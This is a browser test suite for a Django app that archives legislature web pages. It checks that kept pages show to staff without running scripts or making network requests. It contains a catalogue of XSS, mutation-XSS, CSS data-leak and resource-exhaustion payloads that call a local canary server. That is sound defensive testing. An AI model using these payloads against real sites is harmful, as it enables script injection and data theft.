"""Hostile pages, kept and looked at in a real browser with scripts on: nothing in them runs, and nothing is fetched.

Each layer is tried by itself too (what `bills.kept` leaves of a page, and the rights that its frame has), and so is what happens
without either: a canary that never sings would prove nothing.
"""

import http.server
import socketserver
import threading
from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, Dialog, Frame, expect
from playwright.sync_api import Page as Tab
from pytest_django.live_server_helper import LiveServer

from bills import kept, snapshots
from bills.admin.pages import HEADERS
from bills.models import Snapshot
from scrapers.page import Page, Request
from scrapers.vocabulary import Origin
from tests.factories import NOON, make_run
from tests.staff import make_staff, sign_in

pytestmark = [pytest.mark.journey, pytest.mark.django_db(transaction=True)]
# Long enough for a page of this sort to do what it does: without the layers it takes a tenth of it.
WHILE = 700
MARK = "A line that stays"


class Canary(socketserver.ThreadingMixIn, http.server.HTTPServer):
    """A server that counts who connects to it, asked or not, and tells what was asked. It also serves one page."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), _Handler)
        self.connections = 0
        self.asked: list[str] = []
        self.pages: dict[str, tuple[bytes, dict[str, str]]] = {}

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def process_request(self, request, client_address) -> None:  # type: ignore[no-untyped-def]
        self.connections += 1
        super().process_request(request, client_address)


class _Handler(http.server.BaseHTTPRequestHandler):
    server: Canary

    def do_GET(self) -> None:
        body, headers = self.server.pages.get(self.path, (b"", {"Content-Type": "text/css"}))
        if self.path not in self.server.pages:
            self.server.asked.append(self.path)
        self.send_response(200)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *told: object) -> None:
        pass


@pytest.fixture
def canary() -> Iterator[Canary]:
    with _serving() as server:
        yield server


class _serving:  # noqa: N801 - reads as a verb
    def __enter__(self) -> Canary:
        self.server = Canary()
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        return self.server

    def __exit__(self, *told: object) -> None:
        self.server.shutdown()
        self.server.server_close()


RUN = "top.document.title='ran';document.title='ran';alert(1);fetch('{0}/run')"
HOSTILE: dict[str, str] = {
    "script": f"<script>{RUN}</script><script src='{{0}}/s.js'></script>",
    "handler": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><details open ontoggle="{RUN}">x</details>',
    "animation": f'<style>@keyframes a{{{{}}}}</style><p style="animation:a 1s" onanimationstart="{RUN}">x</p>',
    "focus": f'<input autofocus onfocus="{RUN}">',
    "iframe": "<iframe src='{0}/frame'></iframe><iframe srcdoc='<img src={0}/srcdoc>'></iframe>",
    "refresh": "<meta http-equiv=refresh content='0;url={0}/refresh'>",
    "import": "<style>@import url({0}/import.css); @font-face{{font-family:f;src:url({0}/font)}} body{{font-family:f}}</style>",
    "leak": "<style>input[value^=s]{{background:url({0}/leak)}}</style><input value=secret>",
    "styled": "<p style='background:url({0}/inline)'>x</p><table background='{0}/table'><tr><td background='{0}/td'>x</table>",
    "image": "<img src='{0}/img'><img srcset='{0}/srcset 2x'><picture><source srcset='{0}/picture'><img></picture>",
    "video": "<video poster='{0}/poster' src='{0}/video' autoplay></video><audio src='{0}/audio' autoplay></audio>",
    "stylesheet": "<link rel=stylesheet href='{0}/link.css'><link rel=icon href='{0}/icon'>",
    "prefetch": "<link rel=prefetch href='{0}/prefetch'><link rel=preload as=image href='{0}/preload'>",
    "modules": "<link rel=modulepreload href='{0}/module'><link rel=manifest href='{0}/manifest'>",
    "base": "<base href='{0}/'><img src=based>",
    "object": "<object data='{0}/object'></object><embed src='{0}/embed'>",
    "drawing": f"<svg onload=\"{RUN}\"><image href='{{0}}/svg-image'/><use href='{{0}}/use#a'/><script>{RUN}</script></svg>",
    "two bytes": f"<script>{RUN}</script><img src='{{0}}/utf16'>",
    "nul": f"<scr\0ipt>{RUN}</scr\0ipt><img\0 src='{{0}}/nul'><img src='{{0}}/after-nul'>",
    "noscript": "<noscript><p title='</noscript><img src={0}/noscript>'></noscript>",
}
# They do nothing of which a server could tell by themselves: until a click, until they were badly cleaned, or in this browser.
QUIET: dict[str, str] = {
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src={0}/mutation&gt;'>",
    "preconnect": "<link rel=preconnect href='{0}'><link rel=dns-prefetch href='{0}'>",
    "form": "<form action='{0}/form'><button>Go</button></form>",
    "link": f'<a href="javascript:{RUN}">Go</a>',
    "anchor": "<a href='{0}/anchor' ping='{0}/ping'>Go</a>",
}


def hostile(name: str, canary: Canary) -> bytes:
    text = f"<html><head></head><body><h1>{MARK}</h1>{({**HOSTILE, **QUIET})[name].format(canary.url)}</body></html>"
    return text.encode("utf-16") if name == "two bytes" else text.encode()


def as_page(body: bytes, *, media_type: str = "text/html") -> Page:
    url = "https://legislature.example/HB1"
    return Page(Request("bill", url, "2026", "HB 1"), body, url, NOON, Origin.LIVE, media_type=media_type)


def keep(body: bytes, *, media_type: str = "text/html") -> Snapshot:
    return snapshots.keep(as_page(body, media_type=media_type), make_run())


@pytest.fixture
def tab(browser: Browser) -> Iterator[Tab]:
    """A tab in which scripts may run."""
    context = browser.new_context()
    yield context.new_page()
    context.close()


@pytest.fixture
def desk(tab: Tab, live_server: LiveServer) -> Tab:
    sign_in(tab, live_server.url, make_staff())
    return tab


def watched(tab: Tab) -> list[str]:
    """What runs in the tab, as it runs."""
    ran: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        ran.append(f"dialog {dialog.message}")
        dialog.dismiss()

    tab.on("dialog", dismiss)
    tab.on("framenavigated", lambda frame: ran.append(f"went to {frame.url}") if "/refresh" in frame.url else None)
    return ran


def framed(tab: Tab) -> Frame:
    return next(frame for frame in tab.frames if frame.url.endswith("/shown/"))


def look(tab: Tab, live_server: LiveServer, page: Snapshot) -> list[str]:
    """Open a kept page on the desk and wait a while. Returns what ran."""
    ran = watched(tab)
    tab.goto(f"{live_server.url}/desk/pages/{page.pk}/")
    tab.wait_for_timeout(WHILE)
    return ran


@pytest.mark.parametrize("name", [*HOSTILE, *QUIET])
def test_on_the_desk_nothing_runs_and_nothing_is_fetched(name: str, desk: Tab, live_server: LiveServer, canary: Canary) -> None:
    ran = look(desk, live_server, keep(hostile(name, canary)))
    assert desk.title() == "Kept page: bill | Redress"
    expect(desk.frame_locator("iframe").get_by_role("heading", name=MARK)).to_be_visible()
    assert (ran, canary.asked, canary.connections) == ([], [], 0)


@pytest.mark.parametrize("name", ["form", "link", "anchor"])
def test_there_is_nothing_to_click_on(name: str, desk: Tab, live_server: LiveServer, canary: Canary) -> None:
    look(desk, live_server, keep(hostile(name, canary)))
    assert desk.frame_locator("iframe").locator("a, button, input, form, [href], [src]").count() == 0


@pytest.mark.parametrize("name", ["script", "handler", "drawing", "two bytes", "refresh", "image"])
def test_the_framed_document_does_nothing_outside_its_frame_either(
    name: str, desk: Tab, live_server: LiveServer, canary: Canary
) -> None:
    ran = watched(desk)
    desk.goto(f"{live_server.url}/desk/pages/{keep(hostile(name, canary)).pk}/shown/")
    desk.wait_for_timeout(WHILE)
    assert desk.title() == "A kept page"
    assert (ran, canary.asked, canary.connections) == ([], [], 0)


@pytest.mark.parametrize(
    ("body", "media_type"),
    [
        (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>', "image/svg+xml"),
        (b'<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><html><script>alert(1)</script>&c;</html>', "application/xml"),
        (b'{"a": "</pre><script>alert(1)</script>"}', "application/json"),
        (b"a,b\n</pre><script>alert(1)</script>,1\n", "text/csv"),
        (b"%PDF-1.7\n<script>alert(1)</script>", "application/pdf"),
        (b"\0\1\2\3<script>alert(1)</script>" + bytes(range(32)) * 20, "application/octet-stream"),
    ],
    ids=["drawing", "entities", "json", "csv", "pdf", "bytes"],
)
def test_what_is_no_web_page_runs_no_more_than_one(desk: Tab, live_server: LiveServer, body: bytes, media_type: str) -> None:
    assert look(desk, live_server, keep(body, media_type=media_type)) == []
    assert framed(desk).content().count("<script") == 0


NESTED = "".join(f'<g id="l{n}">' + f'<use href="#l{n - 1}"/>' * 10 + "</g>" for n in range(1, 10))
BOMB = f'<svg xmlns="http://www.w3.org/2000/svg"><defs><g id="l0"><circle r="9"/></g>{NESTED}</defs><use href="#l9"/></svg>'


@pytest.mark.parametrize(
    ("body", "media_type"),
    [
        (f"<html><h1>{MARK}</h1>{BOMB}</html>".encode(), "text/html"),
        (BOMB.encode(), "image/svg+xml"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>" + b"<path d='M0 0h9v9z'/>" * 2_500_000 + b"</svg>", "image/svg+xml"),
        (b"<html>" + b"<div>" * 10_000_000, "text/html"),
    ],
    ids=["uses of uses", "a drawing of uses of uses", "52 MB of paths", "50 MB of depth"],
)
def test_a_page_that_is_too_much_leaves_the_desk_usable(desk: Tab, live_server: LiveServer, body: bytes, media_type: str) -> None:
    look(desk, live_server, keep(body, media_type=media_type))
    assert framed(desk).evaluate("document.documentElement.outerHTML.length") < 3_000_000
    desk.get_by_role("link", name="Its source text").click()
    expect(desk.locator(".desk-source tr").first).to_be_visible()


Layers = Callable[[Page], tuple[bytes, dict[str, str]]]


def cleaned_only(page: Page) -> tuple[bytes, dict[str, str]]:
    return kept.document(kept.shown(page)).encode(), {"Content-Type": "text/html; charset=utf-8"}


def framed_only(page: Page) -> tuple[bytes, dict[str, str]]:
    return page.body, {**HEADERS, "Content-Type": "text/html"}


def neither(page: Page) -> tuple[bytes, dict[str, str]]:
    return page.body, {"Content-Type": "text/html"}


def through(layers: Layers, name: str, tab: Tab, canary: Canary) -> list[str]:
    """Load a hostile page through some of the layers, as a page of its own. Returns all that it did."""
    ran = watched(tab)
    # The page comes from another server than the one that it calls, so that to load it is not to call.
    with _serving() as host:
        host.pages["/"] = layers(as_page(hostile(name, canary)))
        tab.goto(host.url, wait_until="commit")
        tab.wait_for_timeout(WHILE)
    return [*ran, *canary.asked]


@pytest.mark.parametrize("name", [*HOSTILE, *QUIET])
def test_what_is_left_of_a_page_is_harmless_by_itself(name: str, tab: Tab, canary: Canary) -> None:
    assert through(cleaned_only, name, tab, canary) == []
    assert canary.connections == 0


@pytest.mark.parametrize("name", [*HOSTILE, *QUIET])
def test_the_rights_of_the_frame_are_enough_by_themselves(name: str, tab: Tab, canary: Canary) -> None:
    """To run nothing and to ask for nothing. A connection that is then not used may be opened: Chromium does so for a frame that it
    may not load.
    """
    assert through(framed_only, name, tab, canary) == []


@pytest.mark.parametrize("name", HOSTILE)
def test_without_either_the_page_does_its_worst(name: str, tab: Tab, canary: Canary) -> None:
    assert through(neither, name, tab, canary)
